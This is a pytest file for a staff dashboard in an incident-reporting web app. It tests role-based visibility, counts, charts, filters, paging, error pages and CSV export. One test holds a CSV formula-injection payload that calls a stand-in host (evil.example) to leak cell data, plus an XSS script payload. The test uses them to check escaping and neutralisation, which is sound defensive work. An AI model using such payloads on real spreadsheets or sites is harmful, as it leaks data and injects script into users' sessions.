"""The dashboard pages, signed in through the real sign-in form: who sees which records in the table,
the counts, the charts' data and the CSV; the filters; paging; errors; escaping and formula cells.

Records are made through the records API, as reporters make them (tests/backend/reporting.py).
"""

from __future__ import annotations

import csv
import html
import io
import json
import re

import pytest

from backend.audit.models import AuditEvent
from tests.backend.reporting import API, fill, new_draft
from tests.backend.web_client import sign_in

CHARTS = re.compile(r'<script type="application/json" id="dashboard-data">(.*?)</script>', re.S)
TOTAL = re.compile(r'id="total">([\d,]+) record')
ROWS = re.compile(r'<a href="/records/([0-9a-f-]+)\?back=dashboard">')


def draft(client, h, desc, event_type="good_care", date=None, harm=None, agents=()):
    answers = [{"field": "Description", "value": desc}]
    if date:
        answers += [{"field": "IncidentOccurredToday", "value": "n"}, {"field": "ApproximateDate", "value": date}]
    if agents:
        answers.append({"field": "InvolvedAgents", "value": list(agents)})
    if harm:
        answers += [{"field": "PatientCount", "value": 1}, {"field": "PhysicalHarm", "patient": 1, "value": harm}]
    return new_draft(client, h, event_type, answers=answers)["record"]["id"]


def submitted(client, h, desc, **kw):
    rid = draft(client, h, desc, **kw)
    fill(client, h, rid)
    assert client.post(f"{API}/records/{rid}/submit", headers=h).status_code == 200
    return rid


def total(page) -> int:
    return int(TOTAL.search(page.text).group(1).replace(",", ""))


def charts(page) -> dict[str, dict[str, int]]:
    return {c["id"]: {r["label"]: r["count"] for r in c["rows"]} for c in json.loads(CHARTS.search(page.text).group(1))}


def exported(client, query="") -> list[dict]:
    r = client.get(f"/dashboard/export.csv{query}")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text[:300]
    assert r.headers["content-disposition"].startswith("attachment; filename=")
    return list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))


AUTHORS = ["std_a", "std_a2", "org_a", "std_b"]
READERS = ["std_a", "std_a2", "org_a", "admin_a", "std_b", "org_b", "admin_b"]


def _may_see(reader, author, is_submitted):
    if reader == author:
        return True
    same_org = reader.split("_")[1][0] == author.split("_")[1][0]  # std_a2 is in organisation a
    return is_submitted and same_org and reader.startswith(("org_", "admin_"))


def test_who_sees_what(client, people):
    """Every reader against own, same-organisation and other-organisation records, drafts and
    submitted: the table, the count, the CSV and each record's summary page agree."""
    ids = {}
    for author in AUTHORS:
        h = people.headers(author)
        ids[f"draft by {author}"] = draft(client, h, f"draft by {author}")
        ids[f"submitted by {author}"] = submitted(client, h, f"submitted by {author}")
    for reader in READERS:
        sign_in(client, reader)
        expected = {f"{state} by {author}" for author in AUTHORS for state in ("draft", "submitted")
                    if _may_see(reader, author, state == "submitted")}
        page = client.get("/dashboard")
        assert page.status_code == 200, reader
        assert {d for d in ids if f">{d}</td>" in page.text} == expected, reader
        assert set(ROWS.findall(page.text)) == {ids[d] for d in expected}, reader
        assert total(page) == len(expected), reader
        assert sum(charts(page)["by-month"].values()) == len(expected), reader
        assert {r["Description"] for r in exported(client)} == expected, reader
        for desc, rid in ids.items():  # listed records open; the others do not exist for this reader
            assert client.get(f"/records/{rid}?back=dashboard").status_code == (200 if desc in expected else 404)
    sign_in(client, "platform")
    for path in ("/dashboard", "/dashboard/export.csv"):
        r = client.get(path)
        assert r.status_code == 403 and "<h1" in r.text and "text/html" in r.headers["content-type"], path
        assert "submitted by" not in r.text


def test_signed_out_goes_to_sign_in(client, people):
    for path in ("/dashboard", "/dashboard/export.csv?status=draft"):
        r = client.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/sign-in?next=/dashboard"), path


def test_navigation_shows_the_dashboard_to_staff(client, people):
    sign_in(client, "std_a")
    assert 'href="/dashboard"' in client.get("/records").text
    sign_in(client, "platform")
    assert 'href="/dashboard"' not in client.get("/records").text


@pytest.fixture
def mine(client, people):
    h = people.headers("std_a")
    draft(client, h, "r1", "incident", date="2025-01-10", harm="4", agents=["4"])
    draft(client, h, "r2", "incident", date="2025-01-20", harm="1", agents=["4", "3"])
    draft(client, h, "r3", "poor_outcome", date="2025-03-05", harm="5", agents=["9"])
    draft(client, h, "r4", "good_care", date="2025-03-31")
    sign_in(client, "std_a")
    return h


def _shown(page) -> set[str]:
    return {d for d in ("r1", "r2", "r3", "r4") if f">{d}</td>" in page.text}


def test_counts_and_charts(client, mine):
    page = client.get("/dashboard")
    assert total(page) == 4 and _shown(page) == {"r1", "r2", "r3", "r4"}
    data = charts(page)
    assert data["by-month"] == {"January 2025": 2, "February 2025": 0, "March 2025": 2}
    assert data["by-harm"] == {"No physical harm": 1, "Low physical harm": 1, "Moderate physical harm": 0,
                               "Severe physical harm": 0, "Fatal": 1, "Not recorded": 1}
    assert data["by-agent"]["Medications"] == 2 and data["by-agent"]["Devices"] == 1
    # The same numbers as tables, for screen readers and browsers without JavaScript.
    assert re.search(r'<th scope="row" class="nhsuk-table__header">January 2025</th>\s*'
                     r'<td class="nhsuk-table__cell nhsuk-table__cell--numeric">2</td>', page.text)
    assert '<script src="/static/app/dashboard.js" defer></script>' in page.text
    assert client.get("/static/app/dashboard.js").status_code == 200


@pytest.mark.parametrize("query, expected", [
    ("date_from=2025-01-20&date_to=2025-03-05", {"r2", "r3"}),
    ("event_type=incident&event_type=good_care", {"r1", "r2", "r4"}),
    ("physical_harm=4&physical_harm=1", {"r1", "r2"}),
    ("agent=4", {"r1", "r2"}),
    ("agent=4&physical_harm=1", {"r2"}),
    ("status=submitted", set()),
    ("channel=api&status=draft", {"r1", "r2", "r3", "r4"}),
    ("event_type=", {"r1", "r2", "r3", "r4"}),  # an empty value is no filter
])
def test_filters_narrow_the_table_counts_and_export(client, mine, query, expected):
    page = client.get(f"/dashboard?{query}")
    assert page.status_code == 200
    assert _shown(page) == expected and (total(page) if expected else 0) == len(expected)
    assert {r["Description"] for r in exported(client, f"?{query}")} == expected
    for name, value in (p.split("=") for p in query.split("&") if not p.endswith("=")):
        if not name.startswith("date_"):  # the form shows what is chosen
            assert re.search(rf'name="{name}" type="checkbox" value="{value}" checked', page.text), name
    if expected:
        link = html.unescape(re.search(r'href="(/dashboard/export\.csv[^"]*)"', page.text).group(1))
        assert {r["Description"] for r in exported(client, link.removeprefix("/dashboard/export.csv"))} == expected


@pytest.mark.parametrize("query, hrefs", [
    ("physical_harm=9", ["#physical_harm-1"]),
    ("date_from=2025-13-01&agent=99", ["#date_from", "#agent-1"]),
    ("date_from=2025-03-02&date_to=2025-03-01", ["#date_from"]),
    ("status=deleted&channel=fax", ["#status-1", "#channel-1"]),
])
def test_bad_filters_show_an_error_summary(client, mine, query, hrefs):
    for path in ("/dashboard", "/dashboard/export.csv"):
        r = client.get(f"{path}?{query}")
        assert r.status_code == 400 and "text/html" in r.headers["content-type"], path
        assert "There is a problem" in r.text and "<title>Error: " in r.text
        summary = r.text.split('nhsuk-error-summary__list">')[1].split("</ul>")[0]
        assert re.findall(r'href="(#[^"]+)"', summary) == hrefs
        assert "r1" not in r.text  # no records for filters that could not be read
        for href in hrefs:  # each link reaches its control
            assert f'id="{href[1:]}"' in r.text


def test_pages_keep_the_filters(client, people):
    h = people.headers("std_a")
    for n in range(27):
        draft(client, h, f"note {n}", "good_care", date="2025-02-01")
    draft(client, h, "an incident", "incident", date="2025-02-01")
    sign_in(client, "std_a")
    first = client.get("/dashboard?event_type=good_care")
    assert total(first) == 27 and len(ROWS.findall(first.text)) == 25
    assert "Page 1 of 2" in first.text and "an incident" not in first.text and 'rel="prev"' not in first.text
    nxt = html.unescape(re.search(r'href="([^"]+)" rel="next"', first.text).group(1))
    assert nxt == "/dashboard?event_type=good_care&page=2"
    second = client.get(nxt)
    assert len(ROWS.findall(second.text)) == 2 and "Page 2 of 2" in second.text and 'rel="next"' not in second.text
    assert "(page 2 of 2)" in second.text.split("</title>")[0]
    prev = html.unescape(re.search(r'href="([^"]+)" rel="prev"', second.text).group(1))
    assert prev == "/dashboard?event_type=good_care&page=1"
    assert set(ROWS.findall(first.text)).isdisjoint(ROWS.findall(second.text))
    past_end = client.get("/dashboard?event_type=good_care&page=9")
    assert ROWS.findall(past_end.text) == ROWS.findall(second.text)  # the last page
    for bad in ("x", "0", "-1", "99999999999999999999"):
        assert client.get(f"/dashboard?page={bad}").status_code == 200


def test_what_reporters_typed_is_escaped_and_neutralised(client, people, db):
    h = people.headers("std_a")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    submitted(client, h, formula)
    submitted(client, h, "<script>alert(1)</script> given twice")
    sign_in(client, "org_a")  # a colleague, reviewing
    page = client.get("/dashboard")
    assert "<script>alert(1)</script>" not in page.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt; given twice" in page.text
    cells = {r["Description"] for r in exported(client)}
    assert "'" + formula in cells and formula not in cells
    assert "<script>alert(1)</script> given twice" in cells  # a CSV is not HTML: kept as typed
    audit = db.query(AuditEvent).filter_by(entity_type="dashboard", action="export").all()
    assert [a.actor_account_id for a in audit] == [people.ids["org_a"]]  # who took the records out


def test_no_records(client, people):
    sign_in(client, "std_b")
    page = client.get("/dashboard")
    assert total(page) == 0 and "No records match" in page.text and "dashboard-data" not in page.text
